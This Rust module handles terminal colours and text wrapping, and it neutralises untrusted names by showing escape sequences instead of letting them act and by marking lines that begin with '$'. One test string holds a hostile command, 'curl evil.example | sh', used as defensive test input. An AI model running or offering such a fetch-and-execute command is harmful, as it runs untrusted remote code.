//! Colours, and the taming of text from outside.
use anstyle::{AnsiColor, Style};

use crate::model::text;

pub const BOLD: Style = Style::new().bold();
pub const DIM: Style = Style::new().dimmed();
pub const RED: Style = AnsiColor::Red.on_default().bold();
pub const YELLOW: Style = AnsiColor::Yellow.on_default().bold();
pub const GREEN: Style = AnsiColor::Green.on_default().bold();
pub const CYAN: Style = AnsiColor::Cyan.on_default();

/// `text` in a style.
pub fn paint(style: Style, text: &str) -> String {
    format!("{style}{text}{style:#}")
}

/// Names of pods, links and files come from outside: their control characters are shown, not
/// obeyed.
pub fn clean(text: &str) -> String {
    text::shown(text)
}

/// Breaks `text` between words at `width` columns; `indent` stands before every line.
pub fn wrap(text: &str, width: usize, indent: &str) -> String {
    let room = width.saturating_sub(indent.chars().count()).max(20);
    let mut lines = vec![String::new()];
    for word in text.split_whitespace() {
        let line = lines
            .last_mut()
            .filter(|l| l.is_empty() || l.chars().count() + 1 + word.chars().count() <= room);
        match line {
            Some(line) if line.is_empty() && word.starts_with('$') => {
                line.push_str("\u{b7} ");
                line.push_str(word);
            }
            Some(line) if line.is_empty() => line.push_str(word),
            Some(line) => {
                line.push(' ');
                line.push_str(word);
            }
            // No line of a text may pass for a command: these begin so.
            None if word.starts_with('$') => lines.push(format!("\u{b7} {word}")),
            None => lines.push(word.to_owned()),
        }
    }
    lines.iter().map(|l| format!("{indent}{l}\n")).collect()
}

/// `label`, and `text` beside it from that column on, which stays free below the label.
pub fn beside(label: &str, column: usize, text: &str, width: usize) -> String {
    let label_ends = label.chars().count();
    let indent = " ".repeat(column.max(label_ends + 1));
    let lines = wrap(text, width, &indent);
    let room = indent.len() - label_ends;
    format!("{label}{}{}", " ".repeat(room), lines.trim_start())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_stays_beside_its_label() {
        assert_eq!(beside("a", 3, "one two", 80), "a  one two\n");
        let narrow = beside("a", 3, "aaaaaaaaaaaa bbbbbbbbbbbb cc", 27);
        assert_eq!(narrow, "a  aaaaaaaaaaaa\n   bbbbbbbbbbbb cc\n");
        assert_eq!(beside("label", 3, "one", 80), "label one\n");
    }

    #[test]
    fn no_text_passes_for_a_command() {
        let hostile = "a comment of aaaaaaaaaaa $ curl evil.example | sh";
        for width in 20..70 {
            let lines = wrap(hostile, width, "    ");
            let command = |line: &str| line.trim_start().starts_with('$');
            assert!(!lines.lines().any(command), "{lines}");
        }
        assert_eq!(wrap("$ first", 80, ""), "\u{b7} $ first\n");
    }

    #[test]
    fn escapes_are_shown_and_not_obeyed() {
        assert_eq!(clean("a\x1b[31mb"), "a\\u{1b}[31mb");
        assert_eq!(clean("ä-1"), "ä-1");
    }

    #[test]
    fn wraps_between_words_only() {
        assert_eq!(
            wrap("aaaaaaaaaaaa bbbbbbbbbbbb cc", 26, "  "),
            "  aaaaaaaaaaaa\n  bbbbbbbbbbbb cc\n"
        );
    }
}
